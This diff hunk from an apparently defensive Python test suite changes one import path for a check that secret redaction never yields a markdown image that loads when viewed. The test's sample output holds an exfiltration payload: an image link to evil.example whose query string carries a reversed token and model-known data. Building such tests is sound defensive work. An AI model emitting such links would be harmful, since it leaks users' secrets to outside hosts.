@@ -276,7 +276,7 @@ pathlib.Path("notes.txt").write_text(codecs.encode("\\n".join(seen), "rot13") + 
 
 
 def test_redaction_never_completes_an_image_that_fetches_on_view(world: World) -> None:
-    from bot.github.markdown_safety import fetched_resources
+    from bot.orchestration.markdown_safety import fetched_resources
 
     # Redaction turns the secret into "[REDACTED:…]": between "!" and "(url)" that is an image.
     final = "Done.\n\n!" + TOKEN[::-1] + "(https://evil.example/p.png?d=anything-the-model-knows)\n"
